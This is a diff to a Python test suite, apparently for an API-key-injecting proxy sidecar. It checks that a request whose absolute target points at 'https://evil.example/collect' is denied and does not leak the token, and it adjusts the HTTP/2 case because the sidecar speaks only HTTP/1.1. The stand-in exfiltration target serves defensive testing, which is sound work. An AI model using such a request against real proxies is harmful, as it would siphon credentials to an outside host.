@@ -136,15 +136,16 @@ def test_1_an_absolute_target_cannot_reflect_the_key(world: dict[str, Any]) -> N
     assert got["reply"].startswith("HTTP/1.1 403"), got
     assert "the request target names evil.example:443" in got["reply"]
     assert TOKEN not in got["reply"]
+    # HTTP/2, where the target would ride in ``:path``: the sidecar does not speak it (it
+    # offers HTTP/1.1 alone), so an absolute :path is never read, let alone forwarded.
     h2 = client(
         world["client"], "h2", world["proxy"], f"{API}:443", API,
         "https://evil.example/collect", API, f"x-api-key={world['placeholder']}",
     )  # fmt: skip
-    assert h2.get("alpn") == "h2" and h2.get("status") == "403", h2
-    assert "is not origin-form" in h2["body"] and TOKEN not in h2["body"]
+    assert h2.get("alpn") != "h2" and "status" not in h2, h2
     assert len(seen(world["upstream"])) == before, "the attack reached the upstream"
     targets = [ln for ln in log(world) if ln["check"] == "target"]
-    assert len(targets) >= 2 and all(ln["decision"] == "deny" for ln in targets)
+    assert targets and all(ln["decision"] == "deny" for ln in targets)
 
 
 def test_2_a_client_hello_of_another_record_version_is_not_relayed(
